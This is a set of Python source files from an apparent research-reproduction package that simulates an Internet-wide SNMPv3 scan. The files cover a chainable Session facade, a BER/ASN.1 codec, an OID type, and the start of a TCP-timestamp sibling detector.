"""The stable high-level facade over the measurement system.

One import drives the whole paper loop — build a simulated Internet,
scan it, filter the replies, resolve aliases, fingerprint vendors::

    from repro.api import Session

    session = Session(scale=300, seed=7)
    census = session.scan().filter().aliases().vendor_census()

Every stage method (:meth:`Session.scan`, :meth:`Session.filter`,
:meth:`Session.aliases`) returns the session so calls chain, and each
stage lazily runs its prerequisites — ``Session(scale=300).valid_v4``
alone builds the topology, runs the campaign and filters it.  Results
are cached on the session; rerunning a stage is a no-op.

The facade is the *supported* surface: its names are re-exported from
:mod:`repro` and covered by the deprecation policy.  Internals
(``repro.scanner.executor`` et al.) remain importable but may move.
"""

from __future__ import annotations

import dataclasses
import warnings
from pathlib import Path
from typing import TYPE_CHECKING, Callable, Iterator

from repro.alias.sets import AliasSets
from repro.alias.snmpv3 import resolve_aliases, resolve_dual_stack
from repro.fingerprint.vendor import vendor_of_alias_set
from repro.net.faults import FaultProfile
from repro.pipeline.filters import FilterPipeline, PipelineResult
from repro.pipeline.records import ValidRecord
from repro.scanner.campaign import CampaignResult, ScanCampaign, ScanStream
from repro.scanner.executor import ExecutionOptions, RetryPolicy
from repro.scanner.metrics import ExecutorMetrics
from repro.store.query import StoreQuery
from repro.store.store import Store
from repro.topology.config import TopologyConfig
from repro.topology.datasets import load_topology_file
from repro.topology.generator import build_topology
from repro.topology.lazy import LazyTopology
from repro.topology.model import Topology

if TYPE_CHECKING:  # pragma: no cover - import cycle guard, types only
    from repro.clock import Clock
    from repro.net.addresses import IPAddress
    from repro.net.ratelimit import RateLimit
    from repro.scanner.records import ScanResult
    from repro.service.query import QueryService
    from repro.service.scheduler import JobSpec, ServiceScheduler

__all__ = [
    "ExecutionOptions",
    "Session",
    "Store",
    "StoreQuery",
    "TopologyOptions",
]


@dataclasses.dataclass(frozen=True)
class TopologyOptions:
    """How a :class:`Session` obtains its ground-truth topology.

    The topology twin of :class:`~repro.scanner.executor.
    ExecutionOptions`: every way to shape *where devices come from* is a
    field here, never a new flat ``Session`` keyword (lint rule API002).
    The default (all fields unset) keeps the historical behaviour — an
    eagerly built sequential-layout topology.

    Parameters
    ----------
    layout:
        Override the config's topology layout (``"sequential"`` or
        ``"streamed"``).  The streamed layout derives every device from
        ``(seed, address)`` alone, which is what makes lazy and
        constant-memory campaigns possible; its populations are
        byte-identically reproduced by :class:`~repro.topology.lazy.
        LazyTopology` at probe time.
    lazy:
        Build a :class:`~repro.topology.lazy.LazyTopology` view instead
        of materializing devices up front.  Implies the streamed layout.
        Campaign results over a lazy topology leave ``bindings`` empty —
        query ``session.topology.owner_of`` / ``binding_of`` instead.
    max_resident:
        Lazy only: cap on concurrently materialized devices (default
        ``TopologyConfig.stream_max_resident``).  Peak memory scales with
        this window, not with the address space.
    topology_file:
        Load the topology from an ITDK-style topology description file
        (see :func:`repro.topology.datasets.load_topology_file`) instead
        of generating one.  Mutually exclusive with ``lazy``/``layout``.
    """

    layout: "str | None" = None
    lazy: bool = False
    max_resident: "int | None" = None
    topology_file: "str | Path | None" = None

    def __post_init__(self) -> None:
        if self.layout not in (None, "sequential", "streamed"):
            raise ValueError(
                "layout must be 'sequential' or 'streamed', "
                f"got {self.layout!r}"
            )
        if self.lazy and self.layout == "sequential":
            raise ValueError(
                "lazy topologies require the streamed layout; "
                "drop layout='sequential' or lazy=True"
            )
        if self.topology_file is not None and (
            self.lazy or self.layout is not None
        ):
            raise ValueError(
                "topology_file loads a fixed topology; it cannot be "
                "combined with lazy or layout overrides"
            )
        if self.max_resident is not None and not self.lazy:
            raise ValueError("max_resident only applies to lazy=True")

    @property
    def effective_layout(self) -> "str | None":
        """The layout this bundle demands of the config (None = keep)."""
        return "streamed" if self.lazy else self.layout


class Session:
    """A lazily evaluated measurement run at a chosen scale.

    Parameters
    ----------
    scale:
        Scale divisor relative to the paper's Internet (``300`` ≈ 1/300
        of the real populations).  Ignored when ``config`` is given.
    seed:
        Master RNG seed; every derived stage is deterministic in it.
    config:
        A full :class:`TopologyConfig` for fine-grained control.
    options:
        An :class:`~repro.scanner.executor.ExecutionOptions` bundle — the
        supported way to shape execution (workers, shard/batch/window
        geometry, the batch-pipeline switch, retries, profiling, fault
        injection).  Unset fields take engine defaults.
    workers / num_shards / batch_size / loss_probability /
    fault_profile / retry / profile:
        Deprecated flat aliases for the corresponding
        :class:`ExecutionOptions` fields.  They keep working (each use
        emits a :class:`DeprecationWarning`) but cannot be combined with
        ``options``; new execution knobs are added to the options object
        only (lint rule API002 enforces this).
    reboot_threshold / skip:
        Filter-pipeline knobs (see :class:`FilterPipeline`).
    topology:
        A :class:`TopologyOptions` bundle — the supported way to shape
        where the ground-truth topology comes from (streamed layout,
        lazy derivation, residency cap, topology-description files).
        Like execution knobs, new topology knobs are added to the
        options object only.
    store:
        A :class:`~repro.store.store.Store` (or a path, opened/created
        on the spot).  With a store attached, every campaign round run
        through :meth:`run_campaign` (and the first implicit
        :meth:`scan`) is ingested into it automatically.
    """

    def __init__(
        self,
        *,
        scale: float = 300.0,
        seed: int = 2021,
        config: "TopologyConfig | None" = None,
        options: "ExecutionOptions | None" = None,
        workers: "int | None" = None,
        num_shards: "int | None" = None,
        batch_size: "int | None" = None,
        loss_probability: "float | None" = None,
        fault_profile: "FaultProfile | str | None" = None,
        retry: "RetryPolicy | None" = None,
        profile: bool = False,
        reboot_threshold: "float | None" = None,
        skip: "frozenset[str] | set[str]" = frozenset(),
        store: "Store | str | Path | None" = None,
        topology: "TopologyOptions | None" = None,
    ) -> None:
        self.config = config or TopologyConfig.paper_scale(
            divisor=scale, seed=seed
        )
        self._topology_options = topology or TopologyOptions()
        wanted_layout = self._topology_options.effective_layout
        if wanted_layout is not None and self.config.layout != wanted_layout:
            self.config = dataclasses.replace(self.config, layout=wanted_layout)
        flat = {
            "workers": workers,
            "num_shards": num_shards,
            "batch_size": batch_size,
            "loss_probability": loss_probability,
            "fault_profile": fault_profile,
            "retry": retry,
            "profile": profile or None,
        }
        used_flat = [name for name, value in flat.items() if value is not None]
        if options is not None and used_flat:
            raise TypeError(
                "pass execution knobs either via options=ExecutionOptions(...) "
                f"or as flat keyword arguments, not both (flat: {used_flat})"
            )
        if used_flat:
            warnings.warn(
                f"Session({', '.join(f'{n}=...' for n in used_flat)}) is "
                "deprecated; pass options=ExecutionOptions(...) instead",
                DeprecationWarning,
                stacklevel=2,
            )
        if options is None:
            options = ExecutionOptions(
                workers=workers,
                num_shards=num_shards,
                batch_size=batch_size,
                loss_probability=loss_probability,
                fault_profile=fault_profile,
                retry=retry,
                profile=profile,
            )
        self._options = options
        self._pipeline_kwargs: dict = {"skip": skip}
        if reboot_threshold is not None:
            self._pipeline_kwargs["reboot_threshold"] = reboot_threshold
        if isinstance(store, (str, Path)):
            store = Store(root=store)
        self._store = store
        self._topology: "Topology | LazyTopology | None" = None
        self._campaign_obj: "ScanCampaign | None" = None
        self._targeted_campaign: "ScanCampaign | None" = None
        self._campaign: "CampaignResult | None" = None
        self._pipelines: dict[int, PipelineResult] = {}
        self._alias: dict[str, AliasSets] = {}

    # -- stages (chainable) ------------------------------------------------

    def scan(self) -> "Session":
        """Run the four-scan campaign (builds the topology if needed)."""
        if self._campaign is None:
            self.run_campaign()
        return self

    def run_campaign(
        self,
        *,
        round_id: "int | None" = None,
        options: "ExecutionOptions | None" = None,
    ) -> CampaignResult:
        """Run one campaign round; with a store attached, auto-ingest it.

        Each call executes a fresh four-scan campaign over the session's
        topology — agent state (reboots) persists between calls, so
        successive rounds form a genuine longitudinal corpus.  The first
        round also becomes the session's cached campaign (what
        :meth:`scan` and the accessors consume).  ``round_id`` defaults
        to the store's next free round.  ``options`` overrides the
        session's :class:`ExecutionOptions` for this round only.
        """
        result = self._make_campaign(options=options).run()
        if self._store is not None:
            self._store.ingest_campaign(result, round_id=round_id)
        if self._campaign is None:
            self._campaign = result
        return result

    def run_targeted(
        self,
        targets: "list[IPAddress]",
        *,
        label: str,
        ip_version: int,
        start_time: float,
        rate_pps: float = 5000.0,
    ) -> "ScanResult":
        """Run one ad-hoc scan of an explicit target list.

        The service scheduler's re-probe primitive: probes exactly
        ``targets`` at virtual ``start_time`` over the session's living
        world (reboots due by then are applied first), returning the
        :class:`~repro.scanner.records.ScanResult`.  The caller decides
        whether/how to ingest it — re-probe rounds use their own labels.
        """
        if self._targeted_campaign is None:
            self._targeted_campaign = self._make_campaign()
        return self._targeted_campaign.run_targeted(
            targets,
            label=label,
            ip_version=ip_version,
            start_time=start_time,
            rate_pps=rate_pps,
        )

    def query_service(
        self,
        *,
        cache_entries: "int | None" = None,
        rate_limit: "RateLimit | None" = None,
        clock: "Clock | None" = None,
    ) -> "QueryService":
        """A :class:`~repro.service.query.QueryService` over the store.

        Snapshot-isolated concurrent reads with an LRU result cache and
        optional per-client rate limiting; see :mod:`repro.service`.
        """
        from repro.service.query import DEFAULT_CACHE_ENTRIES, QueryService

        if self._store is None:
            raise ValueError("this Session has no store attached")
        return QueryService(
            store=self._store,
            cache_entries=(
                DEFAULT_CACHE_ENTRIES if cache_entries is None else cache_entries
            ),
            rate_limit=rate_limit,
            clock=clock,
        )

    def scheduler(
        self,
        *,
        jobs: "tuple[JobSpec, ...] | list[JobSpec] | None" = None,
        seed: "int | None" = None,
        clock: "Clock | None" = None,
        waiter: "Callable[[float], object] | None" = None,
    ) -> "ServiceScheduler":
        """A :class:`~repro.service.scheduler.ServiceScheduler` over this
        session — recurring sweeps plus churn re-probes; see
        :mod:`repro.service`."""
        from repro.service.scheduler import ServiceScheduler

        return ServiceScheduler(
            session=self, jobs=jobs, seed=seed, clock=clock, waiter=waiter
        )

    def filter(self) -> "Session":
        """Run the §4.4 pipeline over both scan pairs."""
        if not self._pipelines:
            self.scan()
            pipeline = FilterPipeline(**self._pipeline_kwargs)
            for version in (4, 6):
                self._pipelines[version] = pipeline.run(
                    *self._campaign.scan_pair(version)
                )
        return self

    def aliases(self) -> "Session":
        """Resolve single-family and dual-stack alias sets (§5.1)."""
        if not self._alias:
            self.filter()
            self._alias["v4"] = resolve_aliases(self.valid_v4)
            self._alias["v6"] = resolve_aliases(self.valid_v6)
            self._alias["dual"] = resolve_dual_stack(self.valid_v4, self.valid_v6)
        return self

    def stream_scans(self) -> Iterator[ScanStream]:
        """Yield the campaign's scans one at a time as observation streams.

        Always uses the sharded executor; the campaign result is *not*
        cached on the session (the point is not materializing it).
        """
        return self._make_campaign(force_executor=True).run_streaming()

    # -- accessors ---------------------------------------------------------

    @property
    def topology(self) -> "Topology | LazyTopology":
        """The ground-truth Internet (built/loaded on first access).

        Dispatches on the session's :class:`TopologyOptions`: a
        ``topology_file`` loads the described topology, ``lazy=True``
        builds a :class:`~repro.topology.lazy.LazyTopology` view that
        derives devices on demand, and otherwise the configured layout is
        materialized eagerly via :func:`build_topology`.
        """
        if self._topology is None:
            opts = self._topology_options
            if opts.topology_file is not None:
                self._topology = load_topology_file(
                    opts.topology_file, seed=self.config.seed
                )
            elif opts.lazy:
                self._topology = LazyTopology(
                    config=self.config, max_resident=opts.max_resident
                )
            else:
                self._topology = build_topology(self.config)
        return self._topology

    @property
    def campaign(self) -> CampaignResult:
        """All four scans plus ground-truth bindings (runs scan())."""
        self.scan()
        return self._campaign

    @property
    def metrics(self) -> "dict[str, ExecutorMetrics]":
        """Per-scan execution metrics (empty under the legacy engine)."""
        return self.campaign.metrics

    @property
    def options(self) -> ExecutionOptions:
        """The session's execution options (flat kwargs are folded in)."""
        return self._options

    @property
    def store(self) -> "Store | None":
        """The attached observatory store, if any."""
        return self._store

    def store_query(self) -> StoreQuery:
        """The attached store's indexed query surface."""
        if self._store is None:
            raise ValueError("this Session has no store attached")
        return self._store.query()

    def pipeline(self, version: int) -> PipelineResult:
        """Filter output for one address family (runs filter())."""
        self.filter()
        return self._pipelines[version]

    @property
    def valid_v4(self) -> "list[ValidRecord]":
        return self.pipeline(4).valid

    @property
    def valid_v6(self) -> "list[ValidRecord]":
        return self.pipeline(6).valid

    @property
    def alias_v4(self) -> AliasSets:
        self.aliases()
        return self._alias["v4"]

    @property
    def alias_v6(self) -> AliasSets:
        self.aliases()
        return self._alias["v6"]

    @property
    def alias_sets(self) -> AliasSets:
        """The final dual-stack alias sets — 'devices' in the paper's §6."""
        self.aliases()
        return self._alias["dual"]

    def vendor_census(self) -> "list[tuple[str, int]]":
        """(vendor, device count) over the alias sets, largest first.

        The Figure 11 quantity: one vendor verdict per de-aliased device,
        inferred from its member engine IDs.
        """
        self.aliases()
        by_address = {
            r.address: r for r in self.valid_v4 + self.valid_v6
        }
        counts: dict[str, int] = {}
        for group in self.alias_sets.sets:
            engine_ids = [
                by_address[a].engine_id for a in group if a in by_address
            ]
            verdict = vendor_of_alias_set(engine_ids)
            counts[verdict.vendor] = counts.get(verdict.vendor, 0) + 1
        return sorted(counts.items(), key=lambda kv: (-kv[1], kv[0]))

    # -- internals ---------------------------------------------------------

    def _make_campaign(
        self,
        *,
        force_executor: bool = False,
        options: "ExecutionOptions | None" = None,
    ) -> ScanCampaign:
        effective = options if options is not None else self._options
        if force_executor and not effective.selects_executor:
            effective = dataclasses.replace(effective, workers=1)
        campaign = ScanCampaign(
            topology=self.topology, config=self.config, options=effective
        )
        self._campaign_obj = campaign
        return campaign
