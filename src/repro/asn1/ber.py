"""BER (Basic Encoding Rules) primitives.

Implements the definite-length subset of X.690 BER that SNMP uses.  All
encoders return ``bytes``; all decoders accept a buffer plus an offset and
return ``(value, next_offset)`` so callers can stream through compound
structures without copying.

SNMP restricts itself to definite lengths and to two's-complement INTEGERs
of at most 64 bits (``Counter64``), which keeps this codec small and easy
to audit.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass
from typing import Iterable, Iterator

from repro.asn1.oid import Oid


class BerEncodeError(ValueError):
    """Raised when a value cannot be BER-encoded."""


class BerDecodeError(ValueError):
    """Raised when a buffer is not valid BER for the expected type."""


class TagClass(enum.IntEnum):
    """The two-bit tag class of a BER identifier octet."""

    UNIVERSAL = 0x00
    APPLICATION = 0x40
    CONTEXT = 0x80
    PRIVATE = 0xC0


# Universal tags used by SNMP.
TAG_INTEGER = 0x02
TAG_OCTET_STRING = 0x04
TAG_NULL = 0x05
TAG_OID = 0x06
TAG_SEQUENCE = 0x30

# SNMP application tags (APPLICATION class, RFC 2578).
TAG_IPADDRESS = 0x40
TAG_COUNTER32 = 0x41
TAG_GAUGE32 = 0x42
TAG_TIMETICKS = 0x43
TAG_OPAQUE = 0x44
TAG_COUNTER64 = 0x46

_CONSTRUCTED = 0x20
_MAX_LENGTH_OCTETS = 8


@dataclass(frozen=True)
class Tag:
    """A decoded BER identifier octet.

    ``number`` is the raw tag byte (low-tag-number form only — SNMP never
    needs high-tag-number form), ``constructed`` is the P/C bit and
    ``tag_class`` the class bits.
    """

    number: int
    constructed: bool
    tag_class: TagClass

    @classmethod
    def from_byte(cls, byte: int) -> "Tag":
        return cls(
            number=byte & 0x1F,
            constructed=bool(byte & _CONSTRUCTED),
            tag_class=TagClass(byte & 0xC0),
        )

    def to_byte(self) -> int:
        return int(self.tag_class) | (_CONSTRUCTED if self.constructed else 0) | self.number


# Precomputed short-form length octets.  SNMP TLVs are overwhelmingly
# tiny (discovery probes/reports are < 128 bytes end to end), so the
# common case is a table lookup instead of a bytes() construction.
_SHORT_LENGTHS = tuple(bytes([n]) for n in range(0x80))


def encode_length(length: int) -> bytes:
    """Encode a definite length per X.690 §8.1.3."""
    if 0 <= length < 0x80:
        return _SHORT_LENGTHS[length]
    if length < 0:
        raise BerEncodeError(f"negative length: {length}")
    body = length.to_bytes((length.bit_length() + 7) // 8, "big")
    if len(body) > _MAX_LENGTH_OCTETS:
        raise BerEncodeError(f"length too large: {length}")
    return bytes([0x80 | len(body)]) + body


def decode_length(buf: bytes, offset: int) -> tuple[int, int]:
    """Decode a definite length, returning ``(length, next_offset)``."""
    if offset >= len(buf):
        raise BerDecodeError("truncated length")
    first = buf[offset]
    offset += 1
    if first < 0x80:
        return first, offset
    num_octets = first & 0x7F
    if num_octets == 0:
        raise BerDecodeError("indefinite lengths are not allowed in SNMP BER")
    if num_octets > _MAX_LENGTH_OCTETS:
        raise BerDecodeError(f"length of {num_octets} octets too large")
    if offset + num_octets > len(buf):
        raise BerDecodeError("truncated long-form length")
    length = int.from_bytes(buf[offset : offset + num_octets], "big")
    return length, offset + num_octets


def encode_tlv(tag_byte: int, content: bytes) -> bytes:
    """Encode a full TLV triple with the given raw tag byte."""
    if not 0 <= tag_byte <= 0xFF:
        raise BerEncodeError(f"tag byte out of range: {tag_byte}")
    return bytes([tag_byte]) + encode_length(len(content)) + content


def decode_tlv(buf: bytes, offset: int = 0) -> tuple[int, bytes, int]:
    """Decode one TLV, returning ``(tag_byte, content, next_offset)``."""
    if offset >= len(buf):
        raise BerDecodeError("truncated TLV: no tag byte")
    tag_byte = buf[offset]
    if tag_byte & 0x1F == 0x1F:
        raise BerDecodeError("high-tag-number form is not used by SNMP")
    length, body_offset = decode_length(buf, offset + 1)
    end = body_offset + length
    if end > len(buf):
        raise BerDecodeError(
            f"truncated TLV body: need {length} bytes, have {len(buf) - body_offset}"
        )
    return tag_byte, buf[body_offset:end], end


def expect_tag(buf: bytes, offset: int, expected: int, what: str) -> tuple[bytes, int]:
    """Decode a TLV and verify its tag byte, returning ``(content, next_offset)``."""
    tag_byte, content, next_offset = decode_tlv(buf, offset)
    if tag_byte != expected:
        raise BerDecodeError(f"expected {what} (tag 0x{expected:02x}), got tag 0x{tag_byte:02x}")
    return content, next_offset


# ---------------------------------------------------------------------------
# INTEGER
# ---------------------------------------------------------------------------

def _integer_content(value: int) -> bytes:
    """Two's-complement minimal-length content octets for an INTEGER."""
    if value >= 0:
        length = value.bit_length() // 8 + 1
    else:
        length = (value + 1).bit_length() // 8 + 1
    return value.to_bytes(length, "big", signed=True)


# Precomputed single-octet INTEGER TLVs (0..127): request ids, engine
# boots, error fields and version numbers nearly always land here.
_SMALL_INTEGERS = tuple(b"\x02\x01" + bytes([v]) for v in range(0x80))


def encode_integer(value: int, tag_byte: int = TAG_INTEGER) -> bytes:
    """Encode a signed INTEGER (or an application type sharing the encoding)."""
    if tag_byte == TAG_INTEGER and 0 <= value < 0x80:
        return _SMALL_INTEGERS[value]
    return encode_tlv(tag_byte, _integer_content(value))


def encode_integer_batch(values: "Iterable[int]") -> list[bytes]:
    """Encode a batch of signed INTEGER TLVs in one pass.

    Byte-identical to ``[encode_integer(v) for v in values]`` but with the
    dispatch, table and length lookups hoisted out of the loop — the batch
    probe pipeline encodes a whole window of message ids per call.
    """
    small = _SMALL_INTEGERS
    short_lengths = _SHORT_LENGTHS
    out: list[bytes] = []
    append = out.append
    for value in values:
        if 0 <= value < 0x80:
            append(small[value])
            continue
        if value >= 0:
            width = value.bit_length() // 8 + 1
        else:
            width = (value + 1).bit_length() // 8 + 1
        if width < 0x80:
            append(
                b"\x02"
                + short_lengths[width]
                + value.to_bytes(width, "big", signed=True)
            )
        else:  # > 1016-bit integers never occur in SNMP; stay correct anyway
            append(encode_tlv(TAG_INTEGER, _integer_content(value)))
    return out


def encode_unsigned(value: int, tag_byte: int) -> bytes:
    """Encode an unsigned application integer (Counter32, TimeTicks, ...).

    Unsigned SNMP types still use two's-complement content, so values with
    the high bit set gain a leading zero octet.
    """
    if value < 0:
        raise BerEncodeError(f"unsigned type cannot encode negative value {value}")
    return encode_tlv(tag_byte, _integer_content(value))


def decode_integer_content(content: bytes) -> int:
    if not content:
        raise BerDecodeError("INTEGER with empty content")
    if len(content) > 1 and (
        (content[0] == 0x00 and not content[1] & 0x80)
        or (content[0] == 0xFF and content[1] & 0x80)
    ):
        raise BerDecodeError("non-minimal INTEGER encoding")
    return int.from_bytes(content, "big", signed=True)


def decode_integer(buf: bytes, offset: int = 0, tag_byte: int = TAG_INTEGER) -> tuple[int, int]:
    """Decode an INTEGER TLV, returning ``(value, next_offset)``."""
    content, next_offset = expect_tag(buf, offset, tag_byte, "INTEGER")
    return decode_integer_content(content), next_offset


# ---------------------------------------------------------------------------
# OCTET STRING / NULL
# ---------------------------------------------------------------------------

def encode_octet_string(value: bytes, tag_byte: int = TAG_OCTET_STRING) -> bytes:
    """Encode an OCTET STRING (primitive form)."""
    return encode_tlv(tag_byte, bytes(value))


def decode_octet_string(
    buf: bytes, offset: int = 0, tag_byte: int = TAG_OCTET_STRING
) -> tuple[bytes, int]:
    """Decode an OCTET STRING TLV, returning ``(value, next_offset)``."""
    return expect_tag(buf, offset, tag_byte, "OCTET STRING")


def encode_null() -> bytes:
    """Encode a NULL value."""
    return encode_tlv(TAG_NULL, b"")


def decode_null(buf: bytes, offset: int = 0) -> tuple[None, int]:
    """Decode a NULL TLV, returning ``(None, next_offset)``."""
    content, next_offset = expect_tag(buf, offset, TAG_NULL, "NULL")
    if content:
        raise BerDecodeError("NULL with non-empty content")
    return None, next_offset


# ---------------------------------------------------------------------------
# OBJECT IDENTIFIER
# ---------------------------------------------------------------------------

def _encode_base128(value: int) -> bytes:
    """Base-128 encoding with continuation bits, used for OID sub-identifiers."""
    if value < 0x80:
        return bytes([value])
    chunks = []
    while value:
        chunks.append(value & 0x7F)
        value >>= 7
    chunks.reverse()
    return bytes([c | 0x80 for c in chunks[:-1]] + [chunks[-1]])


def encode_oid(oid: Oid) -> bytes:
    """Encode an OBJECT IDENTIFIER."""
    arcs = oid.arcs
    if len(arcs) < 2:
        raise BerEncodeError(f"OID needs at least two arcs to encode: {oid}")
    first = arcs[0] * 40 + arcs[1]
    content = _encode_base128(first)
    for arc in arcs[2:]:
        content += _encode_base128(arc)
    return encode_tlv(TAG_OID, content)


def decode_oid(buf: bytes, offset: int = 0) -> tuple[Oid, int]:
    """Decode an OBJECT IDENTIFIER TLV, returning ``(Oid, next_offset)``."""
    content, next_offset = expect_tag(buf, offset, TAG_OID, "OBJECT IDENTIFIER")
    if not content:
        raise BerDecodeError("OID with empty content")
    subids: list[int] = []
    value = 0
    started = False
    for i, byte in enumerate(content):
        if not started and byte == 0x80:
            raise BerDecodeError("OID sub-identifier has leading 0x80 padding")
        started = True
        value = (value << 7) | (byte & 0x7F)
        if not byte & 0x80:
            subids.append(value)
            value = 0
            started = False
        elif i == len(content) - 1:
            raise BerDecodeError("OID ends mid sub-identifier")
    first = subids[0]
    if first < 40:
        arcs = (0, first)
    elif first < 80:
        arcs = (1, first - 40)
    else:
        arcs = (2, first - 80)
    return Oid(arcs + tuple(subids[1:])), next_offset


# ---------------------------------------------------------------------------
# SEQUENCE
# ---------------------------------------------------------------------------

def encode_sequence(*parts: bytes, tag_byte: int = TAG_SEQUENCE) -> bytes:
    """Encode a SEQUENCE (or any constructed type) from pre-encoded parts."""
    return encode_tlv(tag_byte, b"".join(parts))


def decode_sequence(
    buf: bytes, offset: int = 0, tag_byte: int = TAG_SEQUENCE
) -> tuple[bytes, int]:
    """Decode a SEQUENCE TLV, returning ``(content, next_offset)``.

    The content is returned raw; callers iterate it with :func:`decode_tlv`.
    """
    return expect_tag(buf, offset, tag_byte, "SEQUENCE")


def iter_tlvs(content: bytes) -> Iterator[tuple[int, bytes]]:
    """Yield ``(tag_byte, body)`` for each TLV inside a constructed content."""
    offset = 0
    while offset < len(content):
        tag_byte, body, offset = decode_tlv(content, offset)
        yield tag_byte, body
