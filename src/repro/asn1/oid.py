"""Object identifier value type.

An OID is an immutable sequence of non-negative integer arcs, e.g.
``1.3.6.1.2.1.1.1.0`` (``sysDescr.0``).  The class supports prefix tests,
concatenation, and dotted-string parsing, which is all SNMP needs.
"""

from __future__ import annotations

from typing import Iterable, Iterator


class Oid:
    """An ASN.1 OBJECT IDENTIFIER.

    Instances are immutable, hashable and totally ordered (lexicographic
    order on arcs, which matches MIB tree order).

    >>> sysdescr = Oid("1.3.6.1.2.1.1.1.0")
    >>> sysdescr.arcs[:3]
    (1, 3, 6)
    >>> Oid("1.3.6") .is_prefix_of(sysdescr)
    True
    """

    __slots__ = ("_arcs",)

    def __init__(self, arcs: "str | Iterable[int] | Oid") -> None:
        if isinstance(arcs, Oid):
            self._arcs: tuple[int, ...] = arcs._arcs
            return
        if isinstance(arcs, str):
            text = arcs.strip().lstrip(".")
            if not text:
                raise ValueError("empty OID string")
            try:
                parsed = tuple(int(part) for part in text.split("."))
            except ValueError as exc:
                raise ValueError(f"invalid OID string: {arcs!r}") from exc
        else:
            parsed = tuple(int(a) for a in arcs)
        if not parsed:
            raise ValueError("OID must have at least one arc")
        if any(a < 0 for a in parsed):
            raise ValueError(f"OID arcs must be non-negative: {parsed}")
        if len(parsed) >= 1 and parsed[0] > 2:
            raise ValueError(f"first OID arc must be 0..2: {parsed[0]}")
        if len(parsed) >= 2 and parsed[0] < 2 and parsed[1] > 39:
            raise ValueError(f"second OID arc must be 0..39 when first is 0/1: {parsed[1]}")
        self._arcs = parsed

    @property
    def arcs(self) -> tuple[int, ...]:
        """The integer arcs of the OID."""
        return self._arcs

    def is_prefix_of(self, other: "Oid") -> bool:
        """Return ``True`` when ``self`` is a (non-strict) prefix of ``other``."""
        return other._arcs[: len(self._arcs)] == self._arcs

    def child(self, *extra: int) -> "Oid":
        """Return a new OID with ``extra`` arcs appended."""
        return Oid(self._arcs + tuple(extra))

    def parent(self) -> "Oid":
        """Return the OID with the final arc removed."""
        if len(self._arcs) <= 1:
            raise ValueError("root OID has no parent")
        return Oid(self._arcs[:-1])

    def __add__(self, other: "Oid | Iterable[int]") -> "Oid":
        other_arcs = other._arcs if isinstance(other, Oid) else tuple(other)
        return Oid(self._arcs + other_arcs)

    def __len__(self) -> int:
        return len(self._arcs)

    def __iter__(self) -> Iterator[int]:
        return iter(self._arcs)

    def __getitem__(self, index: int) -> int:
        return self._arcs[index]

    def __eq__(self, other: object) -> bool:
        if isinstance(other, Oid):
            return self._arcs == other._arcs
        return NotImplemented

    def __lt__(self, other: "Oid") -> bool:
        return self._arcs < other._arcs

    def __le__(self, other: "Oid") -> bool:
        return self._arcs <= other._arcs

    def __gt__(self, other: "Oid") -> bool:
        return self._arcs > other._arcs

    def __ge__(self, other: "Oid") -> bool:
        return self._arcs >= other._arcs

    def __hash__(self) -> int:
        return hash(self._arcs)

    def __str__(self) -> str:
        return ".".join(str(a) for a in self._arcs)

    def __repr__(self) -> str:
        return f"Oid({str(self)!r})"
