"""ASN.1 Basic Encoding Rules (BER) codec.

SNMP messages are BER-encoded ASN.1 structures.  This package implements the
subset of BER that SNMP requires, built from scratch:

* definite-length TLV encoding and decoding,
* the universal types ``INTEGER``, ``OCTET STRING``, ``NULL``,
  ``OBJECT IDENTIFIER`` and ``SEQUENCE``,
* the SNMP application types (``Counter32``, ``Gauge32``, ``TimeTicks``,
  ``IpAddress``, ``Counter64``, ``Opaque``),
* context-constructed tags used for SNMP PDUs.

The public entry points are :func:`repro.asn1.ber.encode_tlv`,
:func:`repro.asn1.ber.decode_tlv` and the typed helpers in
:mod:`repro.asn1.ber`, plus the :class:`repro.asn1.oid.Oid` value type.
"""

from repro.asn1.ber import (
    BerDecodeError,
    BerEncodeError,
    Tag,
    TagClass,
    decode_integer,
    decode_null,
    decode_octet_string,
    decode_oid,
    decode_sequence,
    decode_tlv,
    encode_integer,
    encode_length,
    encode_null,
    encode_octet_string,
    encode_oid,
    encode_sequence,
    encode_tlv,
)
from repro.asn1.oid import Oid

__all__ = [
    "BerDecodeError",
    "BerEncodeError",
    "Oid",
    "Tag",
    "TagClass",
    "decode_integer",
    "decode_null",
    "decode_octet_string",
    "decode_oid",
    "decode_sequence",
    "decode_tlv",
    "encode_integer",
    "encode_length",
    "encode_null",
    "encode_octet_string",
    "encode_oid",
    "encode_sequence",
    "encode_tlv",
]
