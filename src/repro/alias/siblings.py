"""TCP-timestamp sibling detection (§7.3 comparator: Scheitle et al.).

Prior dual-stack work classifies IPv4/IPv6 *siblings* by comparing the
remote TCP timestamp clock observed over both addresses: one host has one
clock, so its rate (Hz) and skew match across families.  The paper notes
the technique "largely centers on servers" — routers rarely answer TCP at
all — which is exactly why SNMPv3 dual-stack aliasing was novel.

This module implements the method end to end:

* :class:`TcpTimestampOracle` — the probing side: devices with an open
  TCP port return their 32-bit timestamp counter (per-device rate from
  the common 100/250/1000 Hz classes, skewed by the device clock);
* :class:`SiblingDetector` — samples candidate (IPv4, IPv6) pairs over a
  virtual window, estimates each address's clock rate by linear fit, and
  classifies pairs whose rates agree within tolerance *and* whose
  timestamp offsets align.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from repro.net.addresses import IPAddress
from repro.topology.model import Topology

_TS_MODULUS = 1 << 32
_RATE_CLASSES = (100.0, 250.0, 1000.0)


@dataclass(frozen=True)
class SiblingVerdict:
    """One classified candidate pair."""

    v4: IPAddress
    v6: IPAddress
    is_sibling: bool
    rate_v4: float
    rate_v6: float

    @property
    def relative_rate_delta(self) -> float:
        base = max(abs(self.rate_v4), 1e-9)
        return abs(self.rate_v4 - self.rate_v6) / base


class TcpTimestampOracle:
    """Answers TCP timestamp probes against the simulated population."""

    def __init__(self, topology: Topology, seed: int = 0x7C9) -> None:
        self.topology = topology
        rng = random.Random(seed ^ topology.seed)
        self._rate: dict[int, float] = {}
        self._base: dict[int, int] = {}
        for device in topology.devices.values():
            nominal = rng.choice(_RATE_CLASSES)
            # The true rate inherits the device clock's skew — the signal
            # the sibling technique keys on.
            self._rate[device.device_id] = nominal * (
                1.0 + device.agent.behavior.clock_skew
            )
            self._base[device.device_id] = rng.randrange(_TS_MODULUS)

    def probe(self, address: IPAddress, now: float) -> "int | None":
        """TSval from a SYN/ACK, or ``None`` when no TCP service answers."""
        device = self.topology.device_of_address(address)
        if device is None or not device.open_tcp_ports:
            return None
        value = self._base[device.device_id] + self._rate[device.device_id] * now
        return int(value) % _TS_MODULUS


@dataclass
